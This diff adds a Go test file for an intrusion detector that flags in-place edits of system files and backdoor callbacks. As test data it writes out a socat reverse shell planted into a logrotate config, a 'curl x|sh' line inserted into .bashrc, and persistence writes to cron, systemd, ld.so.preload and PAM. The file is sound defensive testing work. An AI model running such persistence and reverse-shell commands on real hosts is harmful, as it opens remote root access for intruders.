@@ -1,0 +1,97 @@
+package detect
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestEditedFiles(t *testing.T) {
+	tests := []struct {
+		args []string
+		want []string
+	}{
+		// the sed script of press-ssti holds "|" and ">": the argv is exact
+		{[]string{"sed", "-i", `/press-logship/a\        /usr/bin/setsid -f /usr/bin/socat OPENSSL-CONNECT:127.0.0.1:8443,verify=0 EXEC:/bin/sh,stderr >/dev/null 2>&1 || true`, "/etc/logrotate.d/press"}, []string{"/etc/logrotate.d/press"}},
+		{[]string{"sed", "-i.bak", "-e", "s/a/b/", "x", "y"}, []string{"x", "y"}},
+		{[]string{"sed", "-Ei", "1i curl x|sh", "/home/a/.bashrc"}, []string{"/home/a/.bashrc"}},
+		{[]string{"sed", "--in-place=.orig", "s/x/y/", "/etc/cron.d/job"}, []string{"/etc/cron.d/job"}},
+		{[]string{"sed", "-n", "p", "/etc/cron.d/job"}, nil},                  // not in place: a read
+		{[]string{"sed", "-i", "/OPENSSL-CONNECT/d", "/etc/x"}, nil},          // deletes only
+		{[]string{"sed", "-i", "3d;/^#/d", "/etc/x"}, nil},                    // deletes only
+		{[]string{"sed", "-i", "/a/d;$a evil", "/etc/x"}, []string{"/etc/x"}}, // and appends
+		{[]string{"tee", "-a", "/root/.bashrc", "/tmp/x"}, []string{"/root/.bashrc", "/tmp/x"}},
+		{[]string{"cp", "-f", "/tmp/job", "/etc/cron.d/"}, []string{"/etc/cron.d/"}},
+		{[]string{"cp", "-t", "/etc/cron.d", "/tmp/job"}, []string{"/etc/cron.d"}},
+		{[]string{"install", "-m", "0644", "unit", "/etc/systemd/system/x.service"}, []string{"/etc/systemd/system/x.service"}},
+		{[]string{"ln", "-sf", "/etc/systemd/system/a.service", "/etc/systemd/system/multi-user.target.wants/a.service"}, []string{"/etc/systemd/system/multi-user.target.wants/a.service"}},
+		{[]string{"dd", "if=/tmp/so", "of=/etc/ld.so.preload"}, []string{"/etc/ld.so.preload"}},
+		{[]string{"perl", "-pi", "-e", "s/a/b/", "/etc/pam.d/sshd"}, []string{"/etc/pam.d/sshd"}},
+		{[]string{"perl", "-e", "print 1", "/etc/pam.d/sshd"}, nil},
+		{[]string{"cat", "/etc/cron.d/job"}, nil},
+		{[]string{"sed"}, nil},
+	}
+	for _, tt := range tests {
+		if got := editedFiles("/usr/bin/"+tt.args[0], tt.args); !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("editedFiles(%q) = %q, want %q", strings.Join(tt.args, " "), got, tt.want)
+		}
+	}
+	if p := editedPlace("/usr/bin/tee", []string{"tee", "-a", ".profile"}, "/home/svc"); p != "/home/svc/.profile" {
+		t.Errorf("a relative file is taken in the process's folder: %q", p)
+	}
+}
+
+// FuzzEditedFiles: the argv an intruder writes never panics the reader
+// and never yields more than maxEdited files.
+func FuzzEditedFiles(f *testing.F) {
+	f.Add("sed\x00-i\x00/a/d\x00/etc/x")
+	f.Add("sed\x00-ie\x00\x00")
+	f.Add("cp\x00-t")
+	f.Add("perl\x00-pie\x00")
+	f.Fuzz(func(t *testing.T, argv string) {
+		args := strings.Split(argv, "\x00")
+		if got := editedFiles("/usr/bin/"+args[0], args); len(got) > maxEdited {
+			t.Fatalf("%d files", len(got))
+		}
+	})
+}
+
+// TestCallbackOpensChannel: a line a web shell's root job adds to a
+// logrotate file names where a socat shell will connect; when cron's
+// logrotate fires it, the connect is the backdoor calling back and what
+// runs on that socket is the intruder's, with no web server above it
+// (press-ssti).
+func TestCallbackOpensChannel(t *testing.T) {
+	e, err := New(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := newSynth()
+	s.exec(10, 1, 33, "www-data", "/var/www/html", "/usr/sbin/php-fpm8.2", "php-fpm")
+	edit := []string{"sed", "-i", `/postrotate/a\ /usr/bin/setsid -f /usr/bin/socat OPENSSL-CONNECT:203.0.113.9:8443,verify=0 EXEC:/bin/sh || true`, "/etc/logrotate.d/app"}
+	fs := e.Observe(s.exec(20, 10, 33, "www-data", "/var/www/html", "/usr/bin/sed", edit...), s.tree)
+	if f := has(fs, "web-persistence-edit-command"); f == nil || f.Stage != StagePersistence {
+		t.Fatalf("the edit of the logrotate file: %v", ids(fs))
+	}
+	s.exec(30, 1, 0, "root", "/", "/usr/sbin/cron", "cron")
+	s.exec(60, 30, 0, "root", "/", "/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf")
+	s.exec(61, 60, 0, "root", "/", "/usr/bin/dash", "sh", "-c", "postrotate script")
+	s.exec(62, 61, 0, "root", "/", "/usr/bin/socat", "socat", "OPENSSL-CONNECT:203.0.113.9:8443,verify=0", "EXEC:/bin/sh")
+	fs = e.Observe(s.connect(62, 61, 0, "/usr/bin/socat", "203.0.113.9", 8443), s.tree)
+	if f := has(fs, "backdoor-callback"); f == nil || f.Title != "Planted Backdoor Calls Back" {
+		t.Fatalf("the callback, fired by logrotate: %v", fs)
+	}
+	s.exec(63, 62, 0, "root", "/", "/usr/bin/dash", "/bin/sh")
+	fs = e.Observe(s.exec(64, 63, 0, "root", "/", "/usr/bin/ssh", "ssh", "-i", "/home/app/.ssh/id_release", "deploy@127.0.0.1", "id"), s.tree)
+	if f := has(fs, "lateral-remote-access-from-web"); f == nil || f.Stage != StageLateralMovement {
+		t.Errorf("ssh in the callback's channel: %v", ids(fs))
+	}
+	// the same socat started by an administrator to an address no plant
+	// names opens no channel
+	s.exec(70, 1, 0, "root", "/", "/usr/bin/socat", "socat", "TCP:198.51.100.4:5000", "EXEC:/bin/cat")
+	e.Observe(s.connect(70, 1, 0, "/usr/bin/socat", "198.51.100.4", 5000), s.tree)
+	s.exec(71, 70, 0, "root", "/", "/usr/bin/dash", "/bin/sh")
+	if fs := e.Observe(s.exec(72, 71, 0, "root", "/", "/usr/bin/ssh", "ssh", "deploy@127.0.0.1", "id"), s.tree); has(fs, "lateral-remote-access-from-web") != nil {
+		t.Errorf("a root ssh outside any channel: %v", ids(fs))
+	}
+}
